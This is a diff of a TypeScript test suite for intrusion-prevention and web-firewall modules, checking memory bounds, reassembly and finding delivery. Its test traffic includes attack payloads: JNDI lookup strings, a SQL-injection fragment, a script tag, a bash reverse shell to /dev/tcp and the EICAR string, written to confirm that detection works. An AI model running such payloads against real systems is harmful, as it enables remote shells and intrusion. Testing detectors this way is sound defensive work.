@@ -81,47 +81,59 @@ describe.each(["ips", "waf"] as const)("%s survives", (name) => {
     );
   });
 
+  // A table of 16,384 flows is passed over and over.
+  const small = name === "ips" ? "flows=16384" : undefined;
+
   it("more flows than fit, in bounded memory, and still finds attacks", async () => {
-    const instance = await newModule(name);
-    const { memory } = instance;
+    const instance = await newModule(name, small);
     const attack = http("GET /?a=${jndi:x}'%20or%201=1--%20");
-    // Unfinished requests hold the most: a table of 16,384 flows is passed twice over.
+    // Unfinished requests hold the most.
     const payload = Buffer.from("POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\nabc");
     const builder = new BatchBuilder({ publisher: 1n, partition: 0, maxRecords: 2000, maxBytes: 1024 * 1024 });
-    const base = buildFrame({
-      ipv4: { src: "10.7.0.1", dst: "10.7.0.2" },
-      tcp: { srcPort: 1, dstPort: 80, seq: 5, flags: "PA" },
-      payload,
-    });
-    const fields = dissectFrame(base);
-    for (let i = 0; i < 40_000; i++) {
-      const src = Uint8Array.from(fields.src);
-      src.set([10, 100 + (i >> 16), (i >> 8) & 255, i & 255], 12);
-      const record = { ...fields, src, flowIdLow: i * 64, flowIdHigh: i, direction: Direction.TO_SERVER, modules: 1 };
-      if (!builder.append(record, base)) {
-        instance.inspect(builder.finish(), 1);
-        builder.append(record, base);
+    const frame = (client: number): Uint8Array =>
+      buildFrame({
+        ipv4: { src: `10.${100 + (client >> 16)}.${(client >> 8) & 255}.${client & 255}`, dst: "10.7.0.2" },
+        tcp: { srcPort: 1, dstPort: 80, seq: 5, flags: "PA" },
+        payload,
+      });
+    const flood = (from: number, to: number): number => {
+      for (let i = from; i < to; i++) {
+        const bytes = frame(i);
+        const record = { ...dissectFrame(bytes), flowIdLow: i * 64, flowIdHigh: i, direction: Direction.TO_SERVER, modules: 1 };
+        if (!builder.append(record, bytes)) {
+          instance.inspect(builder.finish(), 1);
+          builder.append(record, bytes);
+        }
       }
-    }
-    instance.inspect(builder.finish(), 1);
-    expect(instance.memory.bytes).toBe(memory.bytes);
-    expect(instance.memory.bytes).toBeLessThanOrEqual(builtModule(name).memoryPages.max * 65_536);
+      instance.inspect(builder.finish(), 1);
+      return instance.memory.bytes;
+    };
+    // Memory is taken as flows need it; once the table was full it does not grow any more.
+    const full = flood(0, 24_000);
+    expect(flood(24_000, 48_000)).toBe(full);
+    expect(full).toBeLessThan(builtModule(name).memoryPages.max * 65_536);
     expect(inspectAll(instance, session(says(attack)))).not.toEqual([]);
   });
 
   it("segments out of order without end", async () => {
-    const instance = await newModule(name);
-    const before = instance.memory.bytes;
-    const packets = Array.from({ length: 3000 }, (_, i) => ({
-      frame: buildFrame({
-        ipv4: { src: "10.8.0.1", dst: "10.8.0.2" },
-        tcp: { srcPort: 1 + (i % 50), dstPort: 80, seq: 1000 + i * 700, flags: "A" },
-        payload: "z".repeat(600),
-      }),
-      direction: Direction.TO_SERVER,
-    }));
-    inspectAll(instance, packets);
-    expect(instance.memory.bytes).toBe(before);
+    const instance = await newModule(name, small);
+    const flood = (host: number): number => {
+      const packets = Array.from({ length: 3000 }, (_, i) => ({
+        frame: buildFrame({
+          ipv4: { src: `10.8.0.${host}`, dst: "10.8.0.200" },
+          tcp: { srcPort: 1 + (i % 50), dstPort: 80, seq: 1000 + i * 700, flags: "A" },
+          payload: "z".repeat(600),
+        }),
+        direction: Direction.TO_SERVER,
+      }));
+      inspectAll(instance, packets);
+      return instance.memory.bytes;
+    };
+    // The same flows again hold no more than before.
+    const held = flood(1);
+    expect(flood(1)).toBe(held);
+    for (let host = 2; host < 8; host++) flood(host);
+    expect(instance.memory.bytes).toBeLessThan(builtModule(name).memoryPages.max * 65_536);
     expect(inspectAll(instance, session(says(http("GET /?a=${jndi:x}"))))).not.toEqual([]);
   });
 });
@@ -131,30 +143,57 @@ describe("batches and outputs", () => {
     const packets = session(says(http("GET /?a=${jndi:x}"))).map((packet) => ({ ...packet, fields: { modules: 2 } }));
     expect(inspectAll(await newModule("ips"), packets)).toEqual([]);
     const instance = await newModule("ips");
-    expect(ruleIds(batchesOf(packets).flatMap((batch) => instance.inspect(batch, 2)))).toEqual([9_000_001]);
+    expect(ruleIds(batchesOf(packets).flatMap((batch) => instance.inspect(batch, 2)))).toEqual([9_100_400, 9_100_402]);
     const all = await newModule("ips");
-    expect(ruleIds(batchesOf(packets).flatMap((batch) => all.inspect(batch)))).toEqual([9_000_001]);
+    expect(ruleIds(batchesOf(packets).flatMap((batch) => all.inspect(batch)))).toEqual([9_100_400, 9_100_402]);
   });
 
   it("loses no finding when the output fills up", async () => {
-    const instance = await newModule("waf");
-    const uri = `/?q=%3Cscript%3E${"x".repeat(900)}`;
-    const packets = Array.from({ length: 1200 }, () =>
-      session(says(http(`GET ${uri}`, { "User-Agent": "u".repeat(600) }), { splitAt: [] }), { end: "none", handshake: false }),
-    )
-      .flat()
-      .filter(({ frame }) => frame.length > 100);
-    expect(packets.length).toBeGreaterThanOrEqual(1200);
-    const findings = inspectAll(instance, packets, 300);
-    expect(findings).toHaveLength(1200);
-    expect(new Set(findings.map(({ recordIndex }) => recordIndex)).size).toBe(1200);
-    expect(instance.stats.calls).toBeGreaterThan(4);
+    const instance = await newModule("ips");
+    // Three rules find something in each, and every finding carries the payload.
+    const attack = "${jndi:ldap://e} bash -i >& /dev/tcp/10.0.0.9/1 X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!";
+    const packets = Array.from({ length: 1200 }, (_, i) => ({
+      frame: buildFrame({
+        ipv4: { src: "10.1.0.7", dst: "10.2.0.5" },
+        udp: { srcPort: 1024 + i, dstPort: 4001 },
+        payload: attack + "x".repeat(1200),
+      }),
+    }));
+    const batches = batchesOf(packets, 5000).length;
+    const findings = inspectAll(instance, packets, 5000);
+    expect(findings.map(({ recordIndex }) => recordIndex)).toEqual(packets.flatMap((_, i) => [i, i, i]));
+    expect(ruleIds(findings)).toHaveLength(3);
+    expect(instance.stats.calls).toBeGreaterThan(batches);
     expect(instance.stats.findingsDropped).toBe(0);
   });
 
-  it("replays to the same findings", async () => {
+  it.each(["ips", "waf"] as const)("of %s replay to the same findings", async (name) => {
     const packets = attackRequests.slice(0, 60).flatMap((request) => session(says(request)));
-    const [first, second] = [await newModule("waf"), await newModule("waf")];
-    expect(inspectAll(first, packets)).toEqual(inspectAll(second, packets));
+    const [first, second] = [await newModule(name), await newModule(name)];
+    const findings = inspectAll(first, packets);
+    expect(findings.length).toBeGreaterThan(20);
+    expect(findings).toEqual(inspectAll(second, packets));
+  });
+});
+
+describe("ips under memory pressure", () => {
+  it("keeps half of it from what waits behind gaps, and goes on looking at new flows", async () => {
+    const instance = await newModule("ips", "memory=32");
+    const attack = http("GET /", { X: "${jndi:x}" });
+    const found: number[][] = [];
+    // Each round is 1.8 MB behind gaps, in 50 flows that never end.
+    for (let host = 0; host < 16; host++) {
+      const packets = Array.from({ length: 1500 }, (_, i) => ({
+        frame: buildFrame({
+          ipv4: { src: `10.8.1.${host}`, dst: "10.8.0.200" },
+          tcp: { srcPort: 1 + (i % 50), dstPort: 80, seq: 1000 + i * 1300, flags: "A" },
+          payload: "z".repeat(1200),
+        }),
+        direction: Direction.TO_SERVER,
+      }));
+      inspectAll(instance, packets);
+      found.push(ruleIds(inspectAll(instance, session(says(attack)))));
+    }
+    expect(found).toEqual(Array.from({ length: 16 }, () => [9_100_400]));
   });
 });
